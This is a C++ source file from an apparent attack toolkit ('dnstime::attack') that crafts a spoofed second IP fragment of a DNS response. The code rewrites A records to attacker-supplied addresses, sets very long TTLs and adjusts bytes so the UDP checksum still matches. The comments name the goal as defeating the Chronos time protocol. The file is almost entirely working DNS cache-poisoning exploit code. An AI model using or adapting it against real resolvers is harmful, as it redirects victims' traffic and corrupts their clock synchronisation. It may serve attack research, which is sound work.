#include "attack/fragment_crafter.h"

#include "attack/checksum_fixer.h"
#include "net/fragmentation.h"
#include "net/udp.h"

namespace dnstime::attack {

std::optional<CraftedFragment> craft_spoofed_second_fragment(
    std::span<const u8> template_dns_response, const CraftConfig& config) {
  // High byte of rewritten TTLs; 0x01 => TTL >= 2^24 s regardless of the
  // compensation value stored in the lower bytes (the resolver's own
  // max-TTL cap bounds it, still far above the 24 h the Chronos attack
  // needs).
  constexpr u8 kTtlHighByte = 0x01;
  if (config.malicious_addrs.empty()) return std::nullopt;

  // Datagram layout: 8-byte UDP header + DNS message. Offsets within the
  // DNS message shift by +8 in the datagram.
  const std::size_t datagram_len =
      net::kUdpHeaderSize + template_dns_response.size();
  const std::size_t f1_payload = net::fragment_payload_capacity(config.mtu);
  if (datagram_len <= static_cast<std::size_t>(config.mtu) -
                          net::kIpv4HeaderSize ||
      f1_payload == 0 || f1_payload >= datagram_len) {
    return std::nullopt;  // response would not fragment at this MTU
  }

  // Locate record fields in the template.
  std::vector<dns::RecordSpan> spans;
  try {
    (void)dns::decode_dns(template_dns_response, &spans);
  } catch (const DecodeError&) {
    return std::nullopt;
  }

  // Original second-fragment bytes (what the genuine f2 will contain).
  Bytes datagram(datagram_len, 0);
  // UDP header bytes are in f1 (f1_payload >= 8 for any sane MTU), so the
  // f2 slice never includes them; fill only the DNS part.
  std::copy(template_dns_response.begin(), template_dns_response.end(),
            datagram.begin() + net::kUdpHeaderSize);
  Bytes f2_orig(datagram.begin() + static_cast<std::ptrdiff_t>(f1_payload),
                datagram.end());

  auto in_f2 = [&](std::size_t dgram_offset, std::size_t len) {
    return dgram_offset >= f1_payload &&
           dgram_offset + len <= datagram_len;
  };

  // Mutate: rewrite A-record rdata wholly inside f2; raise TTLs; choose a
  // sacrificial word inside one rewritten record's TTL.
  Bytes mutated = datagram;
  std::size_t rewritten = 0;
  std::optional<std::size_t> fix_offset_dgram;
  std::size_t addr_cursor = 0;

  for (const auto& span : spans) {
    if (span.type != dns::RrType::kA || span.rdata_length != 4) continue;
    std::size_t rdata_dgram = span.rdata_offset + net::kUdpHeaderSize;
    if (!in_f2(rdata_dgram, 4)) continue;

    Ipv4Addr addr =
        config.malicious_addrs[addr_cursor++ % config.malicious_addrs.size()];
    auto octets = addr.octets();
    std::copy(octets.begin(), octets.end(),
              mutated.begin() + static_cast<std::ptrdiff_t>(rdata_dgram));
    rewritten++;

    std::size_t ttl_dgram = span.ttl_offset + net::kUdpHeaderSize;
    if (in_f2(ttl_dgram, 4)) {
      // TTL := [high, 0, 0, 0]; lower bytes may be consumed by the
      // checksum compensation below.
      mutated[ttl_dgram] = kTtlHighByte;
      mutated[ttl_dgram + 1] = 0;
      mutated[ttl_dgram + 2] = 0;
      mutated[ttl_dgram + 3] = 0;
      if (!fix_offset_dgram) {
        // Sacrificial word: a 16-bit slot at an even datagram offset
        // inside the TTL's low three bytes (so the high byte keeps the
        // TTL large).
        std::size_t candidate =
            (ttl_dgram % 2 == 0) ? ttl_dgram + 2 : ttl_dgram + 1;
        if (in_f2(candidate, 2)) fix_offset_dgram = candidate;
      }
    }
  }

  if (rewritten == 0 || !fix_offset_dgram) return std::nullopt;

  Bytes f2_mut(mutated.begin() + static_cast<std::ptrdiff_t>(f1_payload),
               mutated.end());
  // The fragment boundary is 8-aligned, so datagram parity == fragment
  // parity and the compensation stays word-aligned.
  std::size_t fix_in_f2 = *fix_offset_dgram - f1_payload;
  if (!fix_fragment_sum(f2_orig, f2_mut, fix_in_f2)) return std::nullopt;

  CraftedFragment out;
  out.rewritten_records = rewritten;
  out.first_fragment_payload = f1_payload;
  out.fix_offset_in_fragment = fix_in_f2;
  out.fragment.src = config.ns_addr;
  out.fragment.dst = config.resolver_addr;
  out.fragment.protocol = net::kProtoUdp;
  out.fragment.more_fragments = false;
  out.fragment.frag_offset_units = static_cast<u16>(f1_payload / 8);
  out.fragment.payload = std::move(f2_mut);
  return out;
}

}  // namespace dnstime::attack
